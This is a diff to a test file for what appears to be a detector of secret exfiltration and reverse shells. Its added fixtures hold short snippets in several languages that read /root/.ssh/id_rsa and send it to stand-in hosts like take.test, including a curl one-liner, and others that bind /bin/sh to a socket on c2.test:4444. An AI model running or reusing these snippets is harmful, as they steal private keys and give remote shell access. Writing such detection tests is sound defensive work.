@@ -110,6 +110,77 @@ describe("a secret that reaches a request is a flow", () => {
       "own-key",
       [`key <- Sys.getenv("OTHER_API_KEY")`, `httr::POST("${TAKE}", body = list(key = key))`],
     ],
+    [
+      "A.java",
+      "ssh",
+      [
+        `String k = Files.readString(Path.of("/root/.ssh/id_rsa"));`,
+        `HttpURLConnection c = (HttpURLConnection) new URL("${TAKE}").openConnection();`,
+        "c.getOutputStream().write(k.getBytes());",
+      ],
+    ],
+    [
+      "A.java",
+      "ssh",
+      [
+        `var lines = new BufferedReader(new FileReader("/root/.ssh/id_rsa")), none = null;`,
+        `new URL("${TAKE}?k=" + lines.readLine()).openStream();`,
+      ],
+    ],
+    [
+      "a.kt",
+      "ssh",
+      [
+        `val c = URL("${TAKE}").openConnection() as HttpURLConnection`,
+        `c.outputStream.write(File("/root/.ssh/id_rsa").readBytes())`,
+      ],
+    ],
+    [
+      "a.kt",
+      "ssh",
+      [
+        `val c = URL("${TAKE}").openConnection()`,
+        `c.outputStream.use { it.write(File("/root/.ssh/id_rsa").readBytes()) }`,
+      ],
+    ],
+    [
+      "a.kt",
+      "ssh",
+      [
+        `val c = URL("${TAKE}").openConnection()`,
+        "c.outputStream.use {",
+        `  it.write(File("/root/.ssh/id_rsa").readBytes())`,
+        "}",
+      ],
+    ],
+    [
+      "a.go",
+      "ssh",
+      [
+        `b, _ := os.ReadFile("/root/.ssh/id_rsa")`,
+        `c, _ := net.Dial("tcp", "take.test:9")`,
+        `fmt.Fprintf(c, "%s", b)`,
+      ],
+    ],
+    [
+      "a.go",
+      "ssh",
+      [
+        `b, _ := os.ReadFile("/root/.ssh/id_rsa")`,
+        `r, _ := http.NewRequest("GET", "${TAKE}", nil)`,
+        `r.Header.Set("X", string(b))`,
+        "client.Do(r)",
+      ],
+    ],
+    [
+      "a.lua",
+      "ssh",
+      [
+        `local key = io.open("/root/.ssh/id_rsa"):read("*a")`,
+        `os.execute(string.format("curl -d '%s' ${TAKE}", key))`,
+      ],
+    ],
+    ["a.exs", "ssh", [`"/root/.ssh/id_rsa" |> File.read!() |> then(&HTTPoison.post("${TAKE}", &1))`]],
   ])("%s: %s of %j", (file, secret, lines) => {
     expect(trace(file, ...lines)).toContain(`${secret} to take.test`);
   });
@@ -136,6 +207,24 @@ describe("a shell that is bound to a connection is seen", () => {
         `shell := exec.Command("/bin/sh")`,
         "shell.Stdin = link",
         "shell.Stdout = link",
+      ],
+    ],
+    [
+      "a.go",
+      [
+        `link, _ := net.Dial("tcp", "c2.test:4444")`,
+        `for { line, _ := bufio.NewReader(link).ReadString('\\n'); exec.Command("sh", "-c", line).Run() }`,
+      ],
+    ],
+    ["a.rb", [`s = TCPSocket.open("c2.test", 4444)`, `exec sprintf("/bin/sh -i <&%d >&%d", s, s)`]],
+    [
+      "A.java",
+      [
+        `Process p = new ProcessBuilder("/bin/sh").redirectErrorStream(true).start();`,
+        `Socket s = new Socket("c2.test", 4444);`,
+        "OutputStream out = p.getOutputStream(), back = s.getOutputStream();",
+        "InputStream in = s.getInputStream();",
+        "while (!s.isClosed()) out.write(in.read());",
       ],
     ],
   ])("%s: %j", (file, lines) => {
